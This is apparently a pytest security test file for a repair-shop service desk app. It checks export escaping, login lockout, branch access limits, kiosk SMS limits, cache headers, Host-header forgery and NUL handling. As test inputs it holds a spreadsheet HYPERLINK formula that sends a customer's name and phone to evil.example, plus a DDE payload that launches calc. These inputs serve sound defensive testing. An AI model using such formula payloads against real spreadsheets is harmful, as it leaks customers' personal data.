# --- exports: what customers type is never run by the manager's spreadsheet -------------------

def test_a_formula_typed_by_a_customer_is_exported_as_text(app, make_ticket):
    """A survey comment (what anyone with the link types) reaches the manager's follow-up
    export: it must open as the words typed, not as a formula that sends the row's name and
    phone elsewhere. Phone numbers (+98...) and signed amounts stay as they are."""
    import csv
    import io

    from openpyxl import load_workbook

    from .test_public import Customer
    ticket = make_ticket("delivered")
    formula = '=HYPERLINK("http://evil.example/?d="&B2&C2,"Click for details")'
    customer = Customer(app)
    customer.get(f"/s/{ticket.public_token}")
    resp = customer.post(f"/s/{ticket.public_token}", {"csat": "1", "complaint": "1",
                                                       "comment": formula})
    assert resp.status_code == 302
    manager = Browser(app)
    manager.login("manager1", PASSWORD)
    url = "/reports/surveys?table=followups&lang=en&format="
    rows = list(csv.reader(io.StringIO(manager.get(url + "csv").get_data(as_text=True)
                                       .lstrip("\ufeff"))))
    assert "'" + formula in rows[1]  # shown as typed, with the quote spreadsheets hide
    assert not any(cell.startswith(("=", "@")) for cell in rows[1])
    assert "+989121234567" in rows[1]  # the customer's phone, as stored
    sheet = load_workbook(io.BytesIO(manager.get(url + "xlsx").get_data())).active
    cells = [c for c in sheet[2] if c.value == formula]
    assert cells and all(c.data_type == "s" for c in cells)


@pytest.mark.parametrize("value, runs", [
    ("=1+1", True), ("@SUM(A1)", True), ("+cmd|' /C calc'!A0", True), ("-2+3", True),
    ("\t=1", True), ("+989121234567", False), ("-5", False), ("Narges", False),
    ("1,400,000", False)])
def test_what_counts_as_a_formula(value, runs):
    from servicedesk.exports import formula_like
    assert formula_like(value) is runs


def test_a_stranger_locking_an_account_does_not_lock_out_its_own_browsers(app, users):
    """Five wrong passwords from anywhere lock the account, but not for the browsers it logged
    in from before (their device cookie): reception keeps its desk while a stranger tries."""
    desk = Browser(app)
    assert desk.login("reception1", PASSWORD).status_code == 302
    other = Browser(app)  # a colleague of another account on the same desk browser
    desk.post("/logout")
    assert desk.login("technician1", PASSWORD).status_code == 302
    desk.post("/logout")
    stranger = Browser(app)
    for name in ("reception1", "technician1"):
        for _ in range(people.MAX_FAILED_LOGINS):
            assert stranger.login(name, "guess").status_code == 401
        assert LOCKED in html(stranger.login(name, PASSWORD))  # locked for the stranger
        assert LOCKED in html(other.login(name, PASSWORD))  # and any browser new to it
    for name in ("reception1", "technician1"):
        desk._token = None
        resp = desk.login(name, PASSWORD)
        assert resp.status_code == 302, html(resp)
        assert desk.get("/").status_code in (200, 302)
        desk.post("/logout")
        # the stranger's lock stays: the login from the desk did not lift it
        assert LOCKED in html(stranger.login(name, PASSWORD))
    # a forged or another shop's device cookie trusts nobody
    forged = Browser(app)
    forged.client.set_cookie("sd_device", "eyJ1IjpbMSwyLDMsNF19.forged.sig")
    assert LOCKED in html(forged.login("reception1", PASSWORD))


def test_a_script_that_keeps_cookies_stays_in_with_its_token(app, users):
    """A client that keeps cookies (requests.Session, a spreadsheet's web query) and sends its
    bearer token on each request: the staff pages it reads (a report's export) answer every
    time, not once and then the login page; no session cookie is handed to it."""
    raw = people.new_token(users["manager"], "accounts")[1]
    db.session.commit()
    client = app.test_client()  # keeps cookies, as such a client does
    headers = {"Authorization": f"Bearer {raw}"}
    # a page with a form first (its CSRF token would go into a session), then the others
    for url in ("/", "/reports/costs", "/tickets/", "/reports/costs?format=csv"):
        with app.app_context():
            resp = client.get(url, headers=headers)
        assert resp.status_code == 200, (url, resp.headers.get("Location"))
        assert "session=" not in resp.headers.get("Set-Cookie", ""), url
    with app.app_context():  # the cookie jar holds no login of its own
        assert client.get("/reports/costs").status_code == 302


# --- branches: the counter and the bench act on their own branch's devices -------------------

def test_staff_of_one_branch_do_not_act_on_another_branchs_tickets(app, api, users,
                                                                    make_ticket):
    from servicedesk.services import workbench
    from servicedesk.services.people import create_user, issue_token

    from .conftest import Api
    from .test_api import row_counts
    north = Branch(name="North", code="N")
    db.session.add(north)
    db.session.commit()
    client = app.test_client()
    there = {role: create_user(f"n{role}", role, PASSWORD, branch=north)
             for role in ("reception", "technician")}
    north_api = {role: Api(client, issue_token(user)) for role, user in there.items()}
    ready, queued = make_ticket("ready"), make_ticket("diagnosis")  # at the main branch
    before = row_counts()
    resp = north_api["reception"].post(f"/api/v1/tickets/{ready.id}/events", json={
        "event": "deliver", "amount_paid": 14_000_000})
    assert resp.status_code == 403
    assert ready.branch.name in resp.get_json()["error"]  # says where the device is
    resp = north_api["technician"].post(f"/api/v1/tickets/{queued.id}/events", json={
        "event": "return_unrepaired", "reason": "no parts"})
    assert resp.status_code == 403
    with pytest.raises(Exception) as refused:
        workbench.claim(queued.id, there["technician"])
    assert getattr(refused.value, "status", None) == 403
    db.session.rollback()
    assert row_counts() == before
    # reading it stays open (a customer asking at the other branch), and its own staff act
    assert north_api["reception"].get(f"/api/v1/tickets/{ready.id}").status_code == 200
    browser = Browser(app)
    browser.login("ntechnician", PASSWORD)
    page = html(browser.get(f"/tickets/{queued.id}?lang=en"))
    assert "data-elsewhere" in page and "data-event-link" not in page
    assert "/claim" not in page
    assert api["reception"].post(f"/api/v1/tickets/{ready.id}/events", json={
        "event": "deliver", "amount_paid": 14_000_000}).status_code == 200
    assert api["technician"].post(f"/api/v1/tickets/{queued.id}/events", json={
        "event": "return_unrepaired", "reason": "no parts"}).status_code == 200
    # a manager of another branch acts anywhere
    manager = create_user("nmanager", "manager", PASSWORD, branch=north)
    intake = make_ticket("intake")
    assert Api(client, issue_token(manager)).post(f"/api/v1/tickets/{intake.id}/events", json={
        "event": "cancel", "reason": "customer changed their mind"}).status_code == 200


def test_the_accounts_own_browser_cannot_guess_without_limit_either(app, users):
    """A colleague at a shared desk (a browser the manager logged in from) typing wrong
    passwords: after as many as anyone may, that browser is held back like any other."""
    desk = Browser(app)
    assert desk.login("manager1", PASSWORD).status_code == 302
    desk.post("/logout")
    for _ in range(people.MAX_FAILED_LOGINS):
        desk._token = None
        assert desk.login("manager1", "guess").status_code == 401
    desk._token = None
    assert LOCKED in html(desk.login("manager1", PASSWORD))
    assert LOCKED in html(Browser(app).login("manager1", PASSWORD))
    # the lock lifts by itself, and a login then trusts the browser again
    db.session.execute(update(User).where(User.id == users["manager"].id)
                       .values(locked_until=people.utcnow() - people.LOCKOUT))
    db.session.commit()
    desk._token = None
    assert desk.login("manager1", PASSWORD).status_code == 302
    db.session.expire_all()
    assert db.session.get(User, users["manager"].id).device_failed_logins == 0


def test_a_ticket_goes_only_to_a_technician_who_may_work_on_it(app, api, users, make_ticket):
    """Sent to repair by name: a technician of the ticket's branch or of none (a workshop
    serving every branch), never one of another branch, who could not act on it."""
    from servicedesk.services.people import create_user
    north = Branch(name="North", code="N")
    db.session.add(north)
    db.session.commit()
    create_user("ntech", "technician", PASSWORD, branch=north)
    workshop = create_user("wtech", "technician", PASSWORD, branch=None)
    ticket = make_ticket("intake")
    resp = api["reception"].post(f"/api/v1/tickets/{ticket.id}/events", json={
        "event": "send_to_repair", "technician": "ntech"})
    assert resp.status_code == 422 and "technician" in resp.get_json()["fields"]
    desk = Browser(app)
    desk.login("reception1", PASSWORD)
    page = html(desk.get(f"/tickets/{ticket.id}?lang=en"))
    assert 'value="ntech"' not in page and 'value="wtech"' in page
    resp = api["reception"].post(f"/api/v1/tickets/{ticket.id}/events", json={
        "event": "send_to_repair", "technician": "wtech"})
    assert resp.status_code == 200
    from servicedesk.services.people import issue_token

    from .conftest import Api
    tech_api = Api(app.test_client(), issue_token(workshop))  # the workshop's works on it
    assert tech_api.post(f"/api/v1/tickets/{ticket.id}/events", json={
        "event": "quote", "lines": [{"kind": "labour", "description": "Fitting", "qty": 1,
                                     "unit_price": 2_000_000}]}).status_code == 200


def test_after_the_own_browsers_lock_lifts_a_typo_does_not_lock_again(app, users):
    desk = Browser(app)
    assert desk.login("manager1", PASSWORD).status_code == 302
    desk.post("/logout")
    for _ in range(people.MAX_FAILED_LOGINS):
        desk._token = None
        desk.login("manager1", "guess")
    db.session.execute(update(User).where(User.id == users["manager"].id)
                       .values(locked_until=people.utcnow() - people.LOCKOUT))
    db.session.commit()
    desk._token = None
    assert LOCKED not in html(desk.login("manager1", "one typo"))  # counted anew
    desk._token = None
    assert desk.login("manager1", PASSWORD).status_code == 302


def test_a_wrong_login_name_with_a_bytes_secret_key_is_no_500(app, users):
    app.secret_key = app.config["SECRET_KEY"] = b"k" * 32  # config.py may give bytes
    resp = Browser(app).login("nobody-here", "x" * 10)
    assert resp.status_code == 401


def test_reception_of_one_branch_does_not_move_another_branchs_queue(app, users):
    """A receptionist of another branch cannot call a number by its id (texting the customer
    to a counter of the wrong shop), recall it, serve it or mark it not shown."""
    from servicedesk.models import Notification, Visit
    from servicedesk.services import reception
    from servicedesk.services.people import create_user
    north = Branch(name="North", code="N")
    db.session.add(north)
    db.session.commit()
    create_user("nreception", "reception", PASSWORD, branch=north)
    here = reception.issue_number(reception.branch_of(users["reception"]), "repair",
                                  "09121234567")
    called = reception.issue_number(reception.branch_of(users["reception"]), "pickup")
    reception.call(called.id, "1", users["reception"])
    texts = count(Notification)
    browser = Browser(app)
    assert browser.login("nreception").status_code == 302
    for url in (f"/queue/{here.id}/call", f"/queue/{called.id}/recall",
                f"/queue/{called.id}/no-show", f"/queue/{called.id}/served"):
        browser.post(url, {"counter": "9"})
    db.session.expire_all()
    assert db.session.get(Visit, here.id).status == "waiting"
    assert db.session.get(Visit, called.id).status == "called"
    assert db.session.get(Visit, called.id).counter == "1"
    assert count(Notification) == texts  # nobody texted to the wrong counter
    # the number's own branch still calls it
    assert reception.call(here.id, "2", users["reception"]).status == "called"


def test_the_kiosk_cannot_text_one_phone_again_and_again(app, users):
    """Anyone in the waiting room types at the kiosk: taking number after number in someone
    else's mobile would send them the shop's SMS each time. A mobile number holding a number
    in the queue is refused another until it is called through; without it, one is taken."""
    from servicedesk.models import Notification, Visit
    from .conftest import add_user
    add_user("lobby", "kiosk")
    kiosk = Browser(app)
    assert kiosk.login("lobby").status_code == 302
    assert kiosk.post("/kiosk", {"service": "repair", "phone": "09121234567"}).status_code == 302
    texts = count(Notification)
    for service in ("repair", "pickup", "inquiry"):
        resp = kiosk.post("/kiosk", {"service": service, "phone": "0912 123 4567"})
        assert resp.status_code == 422
        assert "already has a number in the queue" in html(resp)
    assert count(Notification) == texts and count(Visit) == 1
    assert kiosk.post("/kiosk", {"service": "pickup", "phone": ""}).status_code == 302
    assert count(Visit) == 2


def test_staff_pages_are_kept_in_no_cache_and_logout_clears_it(app, admin, make_ticket):
    """A shared desk's browser: after the logout, its Back button and its cache show no
    customer's page (ASVS 14.3.1, 14.3.2); the static files are still cached."""
    ticket = make_ticket("diagnosis")
    for url in (f"/tickets/{ticket.id}", "/", "/admin/users", "/reports/"):
        resp = admin.get(url)
        assert resp.status_code == 200, url
        assert resp.headers.get("Cache-Control") == "no-store", url
    static = admin.get("/static/js/forms.js")
    assert "no-store" not in (static.headers.get("Cache-Control") or "")
    static.close()
    resp = admin.post("/logout")
    assert resp.status_code == 302 and resp.headers.get("Clear-Site-Data") == '"cache"'


class TestCustomerPagesWithoutAConfiguredAddress:
    """No PUBLIC_BASE_URL (the embedded default): an SMS written by a customer's own request
    (declining the estimate) links to where the staff open the shop, not to the Host header
    that request was sent with (anyone holding the link could make the shop's SMS point the
    customer to a site of theirs)."""

    @pytest.fixture
    def app_config(self):
        return {"PUBLIC_BASE_URL": None}

    def test_a_forged_host_on_the_customers_page_does_not_reach_their_sms(self, app, users,
                                                                         make_ticket):
        from servicedesk.models import Notification
        from .test_public import Customer
        ticket = make_ticket("estimate")
        from .test_public import CSRF
        lan = "http://repair.lan:8000"
        desk = app.test_client()
        with app.app_context():
            page = desk.get("/login", base_url=lan).get_data(as_text=True)
        with app.app_context():
            assert desk.post("/login", base_url=lan, data={
                "username": users["reception"].username, "password": PASSWORD,
                "csrf_token": next(t for t in CSRF.search(page).groups() if t)}
            ).status_code == 302
        with app.app_context():
            assert desk.get("/desk", base_url=lan).status_code == 200
        phone = Customer(app)
        phone.get(f"/t/{ticket.public_token}", base_url="http://evil.example")
        assert phone.post(f"/t/{ticket.public_token}/decline", {"estimate_version": "1"},
                          base_url="http://evil.example").status_code == 302
        db.session.expire_all()
        sms = db.session.scalar(select(Notification).where(
            Notification.ticket_id == ticket.id, Notification.event == "decline"))
        assert "evil.example" not in sms.body
        assert f"http://repair.lan:8000/t/{ticket.public_token}" in sms.body, sms.body


def test_the_generated_secret_key_file_is_owner_only_from_its_creation(tmp_path, monkeypatch):
    """instance/secret_key is created 0600 (os.open with the mode), not written under the
    umask and narrowed afterwards: no chmod is needed (here it does nothing), and a second
    start reads the same key."""
    import os
    import stat
    from pathlib import Path
    from types import SimpleNamespace

    from servicedesk import _secret_key
    monkeypatch.setattr(Path, "chmod", lambda self, mode, **kw: None)
    old = os.umask(0o022)
    try:
        key = _secret_key(SimpleNamespace(instance_path=str(tmp_path)))
    finally:
        os.umask(old)
    path = tmp_path / "secret_key"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert len(key) == 64 and path.read_text() == key
    assert _secret_key(SimpleNamespace(instance_path=str(tmp_path))) == key


def test_a_nul_character_anywhere_a_browser_sends_text_is_refused_not_a_server_error(
        app, users, api, make_ticket):
    """PostgreSQL's text cannot hold a NUL: the login's name, a report's staff filter, a
    search or a token with one failed in the database (500) before any check saw it."""
    from .test_reception import Staff, csrf_of
    ticket = make_ticket("ready")
    visitor = app.test_client()
    page = visitor.get("/login").get_data(as_text=True)
    resp = visitor.post("/login?lang=en", data={"username": "reception1\x00", "password": "x",
                                                "csrf_token": csrf_of(page)})
    assert resp.status_code == 422
    said = resp.get_data(as_text=True)  # (in the language the test's context holds)
    assert "Contains characters that are not allowed." in said or "غیرمجاز" in said
    db.session.expire_all()
    assert db.session.get(User, users["reception"].id).failed_logins == 0
    assert api["manager"].get("/api/v1/reports/takings?staff=%00").status_code == 422
    desk = Staff(app, "manager1")
    for url in ("/reports/takings?staff=%00", "/tickets/?q=%00", "/desk/delivery?q=a%00b",
                "/reports/costs?technician=%00"):
        assert desk.get(url).status_code == 422, url
    assert visitor.get("/t/%00").status_code == 404
    assert visitor.get(f"/t/{ticket.public_token}%00").status_code == 404
    # a form with it changes nothing either
    from servicedesk.models import TicketNote
    resp = desk.post(f"/tickets/{ticket.id}/notes", {"body": "call back\x00"})
    assert resp.status_code == 422
    assert db.session.scalar(select(func.count()).select_from(TicketNote)) == 0
